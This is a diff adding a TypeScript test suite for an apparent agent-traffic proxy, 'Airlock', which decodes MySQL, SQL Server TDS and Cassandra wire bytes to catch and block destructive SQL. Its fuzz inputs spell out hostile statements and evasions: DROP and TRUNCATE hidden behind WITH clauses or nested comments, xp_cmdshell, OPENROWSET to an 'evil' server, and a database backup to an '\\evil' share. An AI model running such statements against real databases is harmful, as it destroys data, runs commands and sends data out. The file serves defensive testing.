@@ -1,0 +1,241 @@
+// Eighteenth pass: SQL inside tunnels read in the protocol the agent really speaks (issue 15's
+// tunnels, issue 23 class 2), in process: each reader (describe/tunnel-sql.ts, tunnel-mysql.ts)
+// is given the bytes a real client sends and must find every statement the server would run, or
+// refuse what it cannot read; the same reader is what the proxy runs per tunnel (tunnels.test.ts
+// drives it live).
+import fc from 'fast-check';
+import { HttpProxyAgent } from 'http-proxy-agent';
+import t from 'tap';
+import { WebSocket } from 'ws';
+import { loadAdapters } from '../../describe/adapters/index.ts';
+import { MysqlReader } from '../../describe/tunnel-mysql.ts';
+import { JsonMessagesReader, type CarriedStatement } from '../../describe/tunnel-sql.ts';
+import { TdsReader, startsTdsSession } from '../../describe/tunnel-tds.ts';
+import { startTestAirlock } from './helpers.ts';
+import { startWsUpstream } from './websocket-helpers.ts';
+
+const numRuns = Number(process.env.AIRLOCK_FUZZ_RUNS ?? 25);
+const seed = process.env.AIRLOCK_FUZZ_SEED ? { seed: Number(process.env.AIRLOCK_FUZZ_SEED) } : {};
+await loadAdapters();
+
+/** A MySQL packet: 3-byte little-endian length, sequence id, payload. */
+const mysqlPacket = (seq: number, payload: Buffer): Buffer => Buffer.concat([Buffer.from([payload.length & 0xff, (payload.length >> 8) & 0xff, payload.length >> 16, seq]), payload]);
+/** MariaDB 10.11's client's handshake response (utf8mb4, no TLS, no compression). */
+const mysqlHandshake = (): Buffer => mysqlPacket(1, Buffer.from('85a2bf00000010002100000000000000000000000000000000000000000000007800006d7973716c5f6e61746976655f70617373776f726400', 'hex'));
+const mysqlCommand = (cmd: number, sql: string): Buffer => mysqlPacket(0, Buffer.concat([Buffer.from([cmd]), Buffer.from(sql)]));
+/** COM_STMT_EXECUTE of statement 1 with one value bound in binary (what the server runs it with is never read). */
+const mysqlExecute = mysqlPacket(0, Buffer.from('170100000000010000000001fe00012500', 'hex'));
+
+/** What a reader refuses, and the statements it found before that. */
+function readMysql(msgs: Buffer[]): { refused?: string; sql: string[] } {
+  const reader = new MysqlReader();
+  const sql: string[] = [];
+  for (const m of msgs) {
+    const r = reader.read(m);
+    sql.push(...r.statements.map((st) => String(st.body.sql)));
+    if (r.refused) return { refused: r.refused, sql };
+  }
+  return { sql };
+}
+
+t.test('eighteenth pass: a prepared MySQL statement is a read only when every reading of it is one, before it runs with values never seen', async (t) => {
+  // `COM_STMT_PREPARE 'WITH c AS (SELECT 1) DELETE FROM users WHERE name LIKE ?'` (MySQL 8 runs
+  // DML after a WITH) was judged as a narrow write with its parameter unbound, then
+  // `COM_STMT_EXECUTE` bound `%` in binary and deleted every row: the reader took the statement
+  // for a read by its first word, so the execute went on. So did a DELETE behind a nested comment
+  // MySQL ends early (`/* /* */ DELETE … -- */ select`), and EXPLAIN ANALYZE of a DELETE.
+  const writes = fc.record({
+    lead: fc.constantFrom('WITH c AS (SELECT 1) ', 'with recursive c (n) as (select 1) ', '/* /* */ ', 'EXPLAIN ANALYZE ', 'explain analyze format=tree ', '(', 'DESCRIBE ANALYZE '),
+    write: fc.constantFrom('DELETE FROM users WHERE name LIKE ?', 'UPDATE users SET role = ? WHERE id > ?', 'DELETE FROM users WHERE id <> ?'),
+  }).map(({ lead, write }) => (lead === '/* /* */ ' ? `${lead}${write} -- */ select 1` : lead === '(' ? `(${write})` : `${lead}${write}`));
+  await fc.assert(
+    fc.property(writes, (sql) => {
+      const r = readMysql([mysqlHandshake(), mysqlCommand(0x16, sql), mysqlExecute]);
+      if (!r.refused) throw new Error(`${sql}: executed with values Airlock never read`);
+    }),
+    { numRuns: Math.min(numRuns, 21), ...seed },
+  );
+  // Controls: prepared reads run with their values.
+  for (const sql of ['SELECT ?', 'SELECT id, name FROM users WHERE name LIKE ? ORDER BY id LIMIT 10', 'WITH c AS (SELECT id FROM users) SELECT * FROM c WHERE id = ?', 'SHOW TABLES', '/* hint */ SELECT id FROM users WHERE id = ?']) {
+    t.same(readMysql([mysqlHandshake(), mysqlCommand(0x16, sql), mysqlExecute]), { sql: [sql] }, `${sql}: runs`);
+  }
+});
+
+// SQL Server's TDS as tedious 18 sends it (captured against a server answering ENCRYPT_NOT_SUP:
+// PRELOGIN, LOGIN7, the connect batch of session settings, a batch, an sp_executesql RPC).
+const tedious = {
+  prelogin: Buffer.from('120100350000010000001f000601002500010200260001030027000404002b000106002c0001ff1206000200000200000000000001', 'hex'),
+  login: Buffer.from('100100bd00000100b5000000040000740010000000000000430f000000000000f000001800000000090400005e000200620002006600010068000700760009008800040093000700a1000a00b5000000010203040506b5000000b5000000b50000000000000076006d007300610022a554006500640069006f00750073003100320037002e0030002e0030002e0031008c0000000a0100000001ff54006500640069006f0075007300750073005f0065006e0067006c00690073006800', 'hex'),
+  connectBatch: Buffer.from('010102f40000010016000000120000000200000000000000000001000000730065007400200061006e00730069005f006e0075006c006c00730020006f006e000a00730065007400200061006e00730069005f006e0075006c006c005f00640066006c0074005f006f006e0020006f006e000a00730065007400200061006e00730069005f00700061006400640069006e00670020006f006e000a00730065007400200061006e00730069005f007700610072006e0069006e006700730020006f006e000a00730065007400200061007200690074006800610062006f007200740020006f006e000a00730065007400200063006f006e006300610074005f006e0075006c006c005f007900690065006c00640073005f006e0075006c006c0020006f006e000a007300650074002000640061007400650066006900720073007400200037000a007300650074002000640061007400650066006f0072006d006100740020006d00640079000a00730065007400200069006d0070006c0069006300690074005f007400720061006e00730061006300740069006f006e00730020006f00660066000a0073006500740020006c0061006e00670075006100670065002000750073005f0065006e0067006c006900730068000a0073006500740020006e0075006d0065007200690063005f0072006f0075006e006400610062006f007200740020006f00660066000a007300650074002000710075006f007400650064005f006900640065006e0074006900660069006500720020006f006e000a0073006500740020007400650078007400730069007a006500200032003100340037003400380033003600340037000a0073006500740020007400720061006e00730061006300740069006f006e002000690073006f006c006100740069006f006e0020006c006500760065006c0020007200650061006400200063006f006d006d00690074007400650064000a00730065007400200078006100630074005f00610062006f007200740020006f0066006600', 'hex'),
+  dropBatch: Buffer.from('0101003e0000010016000000120000000200000000000000000001000000440052004f00500020005400410042004c004500200075007300650072007300', 'hex'),
+  executeSql: Buffer.from('030100d40000010016000000120000000200000000000000000001000000ffff0a0000000a4000730074006100740065006d0065006e00740000e7480000000000004800440045004c004500540045002000460052004f004d0020007500730065007200730020005700480045005200450020006e0061006d00650020004c0049004b00450020004000700007400070006100720061006d00730000e71c0000000000001c004000700020006e007600610072006300680061007200280031002900024000700000e70200000000000002002500', 'hex'),
+};
+/** A TDS packet: type, status (EOM), big-endian length, SPID 0, packet id 1, window 0. */
+const tdsPacket = (type: number, payload: Buffer, status = 1): Buffer => {
+  const h = Buffer.from([type, status, 0, 0, 0, 0, 1, 0]);
+  h.writeUInt16BE(payload.length + 8, 2);
+  return Buffer.concat([h, payload]);
+};
+/** ALL_HEADERS with the transaction descriptor header (no transaction, one request outstanding), as tedious writes it. */
+const allHeaders = Buffer.from('160000001200000002000000000000000000010000000000'.slice(0, 44), 'hex');
+const u16 = (s: string): Buffer => Buffer.from(s, 'utf16le');
+const tdsBatch = (sql: string): Buffer => tdsPacket(0x01, Buffer.concat([allHeaders, u16(sql)]));
+/** An NVARCHAR RPC parameter (name, status 0, max length, an empty collation, the value). */
+const nvarchar = (name: string, value: string): Buffer => {
+  const v = u16(value);
+  const head = Buffer.alloc(2);
+  head.writeUInt16LE(Math.max(v.length, 2));
+  const len = Buffer.alloc(2);
+  len.writeUInt16LE(v.length);
+  return Buffer.concat([Buffer.from([name.length]), u16(name), Buffer.from([0, 0xe7]), head, Buffer.alloc(5), len, v]);
+};
+/** An RPC by procedure id (sp_executesql is 10) with NVARCHAR parameters. */
+const tdsRpc = (id: number, params: Array<[string, string]>): Buffer => tdsPacket(0x03, Buffer.concat([allHeaders, Buffer.from([0xff, 0xff, id, 0, 0, 0]), ...params.map(([n, v]) => nvarchar(n, v))]));
+
+/** What a TDS reader finds in `msgs`: each statement's twin body, and why it refused, if it did. */
+function readTds(msgs: Buffer[], server?: Buffer): { bodies: Array<CarriedStatement['body']>; refused?: string } {
+  const reader = new TdsReader();
+  if (server) reader.observe(server);
+  const bodies: Array<CarriedStatement['body']> = [];
+  for (const m of msgs) {
+    const r = reader.read(m);
+    bodies.push(...r.statements.map((st) => st.body));
+    if (r.refused) return { bodies, refused: r.refused };
+  }
+  return { bodies };
+}
+const opened = (): Buffer[] => [tedious.prelogin, tedious.login, tedious.connectBatch];
+
+t.test('eighteenth pass: SQL Server\'s TDS through a bridge is read packet by packet, each batch and RPC statement judged', async (t) => {
+  // websockify before port 1433: tedious's `DROP TABLE users` went on undecided (its UTF-16 text,
+  // NULs between the letters, held no word of SQL to the text reader).
+  t.same(tdsBatch('DROP TABLE users'), tedious.dropBatch, 'the batch builder writes what tedious sends');
+  t.same(tdsRpc(10, [['@statement', 'DELETE FROM users WHERE name LIKE @p'], ['@params', '@p nvarchar(1)'], ['@p', '%']]), tedious.executeSql, 'the RPC builder writes what tedious sends');
+  const tsqlWrites = fc.constantFrom(
+    'DROP TABLE users', 'IF 1 = 1 DROP TABLE users', 'SELECT 1\nDELETE users', "DECLARE @s nvarchar(99) = N'DROP TABLE users'; EXEC (@s)",
+    "WAITFOR DELAY '0:0:1'; SHUTDOWN WITH NOWAIT", "SELECT 'a\\'; DROP TABLE users --'", 'SELECT 1 /* /* */ */ TRUNCATE TABLE users',
+    "EXEC xp_cmdshell 'whoami'", 'SELECT * INTO public_copy FROM users', "SELECT * FROM OPENROWSET('SQLNCLI', 'Server=evil;', 'SELECT 1')",
+    'SET IDENTITY_INSERT users ON', "BACKUP DATABASE app TO DISK = '\\\\evil\\share\\app.bak'", 'sp_configure', 'WITH c AS (SELECT 1 AS x) UPDATE users SET role = 1',
+    'BEGIN TRAN; DELETE FROM users; COMMIT', '[dbo].[purge_orders]', 'SELECT TOP 1 dbo.purge_orders()', 'SELECT * FROM [dbo] . [wipe] (1)',
+  );
+  await fc.assert(
+    fc.property(tsqlWrites, fc.constantFrom('batch', 'sp_executesql', 'two packets'), (sql, how) => {
+      const msg = how === 'batch' ? [tdsBatch(sql)] : how === 'two packets' ? (() => { const b = tdsBatch(sql); const first = tdsPacket(0x01, b.subarray(8, 30), 0); return [first, tdsPacket(0x01, b.subarray(30))]; })() : [tdsRpc(10, [['@statement', sql]])];
+      const r = readTds([...opened(), ...msg]);
+      const last = r.bodies[r.bodies.length - 1];
+      if (!r.refused && !(last && typeof last.sql === 'string' && last.sql === sql)) throw new Error(`${how} ${sql}: ${JSON.stringify(r)}`);
+    }),
+    { numRuns: Math.min(numRuns * 2, 48), ...seed },
+  );
+  // Values bound to a statement that may write are binary, read by no grammar: refused; so is a handle run after a prepared write.
+  t.ok(readTds([...opened(), tedious.executeSql]).refused, 'sp_executesql of a DELETE with a value bound: refused');
+  t.ok(readTds([...opened(), tdsRpc(11, [['@handle', ''], ['@params', '@p int'], ['@stmt', 'DELETE FROM users WHERE id > @p'], ['@options', '']]), tdsRpc(12, [['@handle', ''], ['@p', '0']])]).refused, 'sp_prepare of a DELETE then sp_execute: refused');
+  t.ok(readTds([...opened(), tdsPacket(0x03, Buffer.concat([allHeaders, Buffer.from([4, 0]), u16('purg'), Buffer.from([0, 0])]))]).refused, 'a procedure called by name: refused');
+  // Encryption: the client asking for it, or a server that encrypts the whole session, is refused; a login encrypted alone is read around.
+  const askOn = Buffer.from(tedious.prelogin);
+  askOn[8 + 37] = 0x01;
+  t.ok(readTds([askOn]).refused, 'a client asking for encryption: refused');
+  const offPrelogin = Buffer.from(tedious.prelogin);
+  offPrelogin[8 + 37] = 0x00;
+  const serverSays = (enc: number): Buffer => tdsPacket(0x04, Buffer.from([0, 0, 11, 0, 6, 1, 0, 17, 0, 1, 0xff, 15, 0, 7, 0xd0, 0, 0, enc]));
+  const tlsHandshake = tdsPacket(0x12, Buffer.from('160303000501000001ff', 'hex'));
+  const tlsRecord = Buffer.from('170303000a00112233445566778899', 'hex');
+  t.ok(readTds([offPrelogin, tlsHandshake, tlsRecord, tdsBatch('DROP TABLE users')], serverSays(3)).refused, 'a server that requires encryption: the handshake is refused');
+  t.same(readTds([offPrelogin, tlsHandshake, tlsRecord, tdsBatch('DROP TABLE users')], serverSays(0)).bodies, [{ sql: 'DROP TABLE users' }], 'a login encrypted alone: the batch after it is read');
+  t.ok(readTds([offPrelogin, tlsHandshake, tlsRecord, tdsBatch('SELECT 1'), tlsRecord], serverSays(0)).refused, 'TLS after the login: refused');
+  // A session a bridge opened starts at a batch or RPC, read alike; other binary messages (MQTT's CONNECT, a protobuf) are not taken for one.
+  t.ok(startsTdsSession(tedious.dropBatch) && startsTdsSession(tedious.executeSql), 'a batch or an RPC first: TDS');
+  for (const other of ['101000044d5154540402003c0000', '0a0a0801120474657374', '0101000800000100']) t.notOk(startsTdsSession(Buffer.from(other, 'hex')), `${other}: not TDS`);
+  const bareReader = new TdsReader({ sessionOpen: true });
+  t.same(bareReader.read(tedious.dropBatch).statements.map((st) => st.body), [{ sql: 'DROP TABLE users' }], 'a session the bridge opened: the batch is read');
+  // Controls: the connect batch, reads and an sp_executesql read with its value go on as reads.
+  const reads = readTds([...opened(), tdsBatch('SELECT TOP 10 id, name FROM users WHERE name = N\'x\' ORDER BY id'), tdsBatch('SELECT @@VERSION'), tdsBatch('SELECT COUNT(*), MAX(u.id) FROM dbo.users u WHERE u.name LIKE N\'a.b(%\''), tdsRpc(10, [['@statement', 'SELECT id FROM users WHERE name LIKE @p'], ['@params', '@p nvarchar(1)'], ['@p', '%']])]);
+  t.notOk(reads.refused, 'reads are not refused');
+  t.ok(reads.bodies.every((b) => typeof b.query === 'string' && b.sql === undefined), `reads are judged as text a grammar may read: ${JSON.stringify(reads.bodies)}`);
+});
+
+t.test('eighteenth pass (live): a TDS DROP through a bridge never reaches the server; the connect batch and reads do', async (t) => {
+  process.env.AIRLOCK_MASTER_KEY ??= '3c'.repeat(32);
+  // A bridge to SQL Server (websockify before 1433): answers PRELOGIN (no encryption), LOGIN7 and every other message as the server does, in TDS.
+  const answer = (type: number): Buffer => type === 0x12
+    ? tdsPacket(0x04, Buffer.from([0, 0, 11, 0, 6, 1, 0, 17, 0, 1, 0xff, 15, 0, 7, 0xd0, 0, 0, 2]))
+    : tdsPacket(0x04, Buffer.from('fd0000c1000000000000000000', 'hex'));
+  const bridge = await startWsUpstream(t, { onConnection: (ws) => ws.on('message', (d: Buffer) => ws.send(answer(d[0]!), { binary: true })) });
+  const a = await startTestAirlock(t, { policy: 'streams', resolve: ['sql.example=127.0.0.1'], allowPrivate: [`127.0.0.1:${bridge.port}`] });
+  /** Sends each message after the answer to the one before; how the tunnel ended and what the server got. */
+  const session = (msgs: Buffer[]): Promise<{ code: number; got: string }> => new Promise((resolve, reject) => {
+    const before = bridge.conns.length;
+    const ws = new WebSocket(`ws://sql.example:${bridge.port}/`, [], { agent: new HttpProxyAgent(a.proxyUrl), perMessageDeflate: false });
+    let sent = 0;
+    const next = (): void => { if (sent < msgs.length) ws.send(msgs[sent++]!, { binary: true }); else ws.close(1000); };
+    ws.on('open', next);
+    ws.on('message', next);
+    ws.on('close', (code) => resolve({ code, got: Buffer.concat(bridge.conns[before]?.messages.map((m) => m.data) ?? []).toString('utf16le') }));
+    ws.on('error', reject);
+    setTimeout(() => ws.terminate(), 8000).unref();
+  });
+  const dropped = await session([...opened(), tedious.dropBatch, tdsBatch('SELECT 1')]);
+  t.equal(dropped.code, 1008, 'the DROP closes the tunnel');
+  t.notOk(dropped.got.includes('DROP TABLE'), 'the server never got it');
+  t.ok(dropped.got.includes('set ansi_nulls on'), 'the connect batch went on');
+  // A bridge that logged in itself: the stream starts at the first batch.
+  const bare = await session([tedious.dropBatch]);
+  t.equal(bare.code, 1008, 'a DROP first on a session the bridge opened closes the tunnel');
+  t.notOk(bare.got.includes('DROP TABLE'), 'the server never got it');
+  const read = await session([...opened(), tdsBatch('SELECT TOP 10 id FROM users ORDER BY id')]);
+  t.not(read.code, 1008, 'a read is relayed');
+  t.ok(read.got.includes('SELECT TOP 10 id'), 'the server got the read');
+});
+
+/** A Cassandra native protocol v4 QUERY frame: header (version, flags, stream, opcode 7, length), the CQL as a long string, consistency ONE, no flags. */
+const cqlQuery = (cql: string, stream = 1): Buffer => {
+  const q = Buffer.from(cql);
+  const body = Buffer.concat([Buffer.alloc(4), q, Buffer.from([0, 1, 0])]);
+  body.writeInt32BE(q.length, 0);
+  const head = Buffer.from([0x04, 0, 0, stream, 0x07, 0, 0, 0, 0]);
+  head.writeInt32BE(body.length, 5);
+  return Buffer.concat([head, body]);
+};
+
+t.test('eighteenth pass: SQL inside a binary protocol Airlock has no reader for (CQL\'s native frames) is read in its runs of text', async (t) => {
+  // Cassandra's native protocol through a bridge: `QUERY 'DROP TABLE users'` is a length-prefixed
+  // string between binary header bytes, so the text reader found no SQL (control bytes before it)
+  // and relayed it undecided; a length that is a letter's code glues onto the statement (`DDROP …`).
+  const runs = (msg: Buffer): Array<CarriedStatement['body']> => new JsonMessagesReader().read(msg, true).statements.map((st) => st.body);
+  await fc.assert(
+    fc.property(fc.constantFrom('DROP TABLE users', 'TRUNCATE users', 'DELETE FROM users WHERE id > 0', "UPDATE users SET role = 'admin' WHERE id = 7", 'DROP KEYSPACE app'), fc.integer({ min: 0, max: 60 }), fc.boolean(), (cql, pad, glued) => {
+      // Padding in a comment makes the length byte any value, a letter's code among them.
+      const text = glued ? `${cql} /*${'x'.repeat(Math.max(0, 0x44 - cql.length - 4))}*/` : `${cql}${' '.repeat(pad)}`;
+      const found = runs(cqlQuery(text));
+      if (!found.some((b) => (b.query ?? b.sql) === text)) throw new Error(`${JSON.stringify(text)}: ${JSON.stringify(found)}`);
+    }),
+    { numRuns: Math.min(numRuns * 2, 40), ...seed },
+  );
+  // UTF-16 text in a framing Airlock does not know (a TDS batch whose stream was not recognised), at either byte alignment.
+  for (const lead of [Buffer.from([0x05, 0, 0, 0]), Buffer.from([0x05, 0, 0])]) {
+    t.ok(runs(Buffer.concat([lead, Buffer.from('DROP TABLE users', 'utf16le'), Buffer.from([0, 0])])).some((b) => (b.query ?? b.sql) === 'DROP TABLE users'), `UTF-16 after ${lead.length} bytes: read`);
+  }
+  // Controls: a PNG and a protobuf chat message hold no statement; a run past the bound is refused, not skipped.
+  t.same(runs(Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), Buffer.alloc(64, 7)])), [], 'a PNG: nothing');
+  t.same(runs(Buffer.from('0a05616c6963651214686176652061206e69636520646179206f7574', 'hex')), [], 'a protobuf chat message: nothing');
+  t.ok(new JsonMessagesReader().read(Buffer.concat(Array.from({ length: 20 }, (_v, i) => cqlQuery(`SELECT * FROM t${i}`))), true).refused, 'more places than read: refused');
+  // Live: a bridge to Cassandra; the DROP never reaches it, a SELECT does.
+  process.env.AIRLOCK_MASTER_KEY ??= '3c'.repeat(32);
+  const bridge = await startWsUpstream(t, { onConnection: (ws) => ws.on('message', () => ws.send(Buffer.from([0x84, 0, 0, 1, 0x08, 0, 0, 0, 4, 0, 0, 0, 1]), { binary: true })) });
+  const a = await startTestAirlock(t, { policy: 'streams', resolve: ['sql.example=127.0.0.1'], allowPrivate: [`127.0.0.1:${bridge.port}`] });
+  const send = (msgs: Buffer[]): Promise<{ code: number; got: string }> => new Promise((resolve, reject) => {
+    const before = bridge.conns.length;
+    const ws = new WebSocket(`ws://sql.example:${bridge.port}/`, [], { agent: new HttpProxyAgent(a.proxyUrl), perMessageDeflate: false });
+    let sent = 0;
+    const next = (): void => { if (sent < msgs.length) ws.send(msgs[sent++]!, { binary: true }); else ws.close(1000); };
+    ws.on('open', next);
+    ws.on('message', next);
+    ws.on('close', (code) => resolve({ code, got: Buffer.concat(bridge.conns[before]?.messages.map((m) => m.data) ?? []).toString('latin1') }));
+    ws.on('error', reject);
+    setTimeout(() => ws.terminate(), 8000).unref();
+  });
+  const dropped = await send([cqlQuery('SELECT release_version FROM system.local'), cqlQuery('DROP TABLE users')]);
+  t.equal(dropped.code, 1008, 'the DROP closes the tunnel');
+  t.notOk(dropped.got.includes('DROP TABLE'), 'Cassandra never got it');
+  t.ok(dropped.got.includes('release_version'), 'the read before it went on');
+});
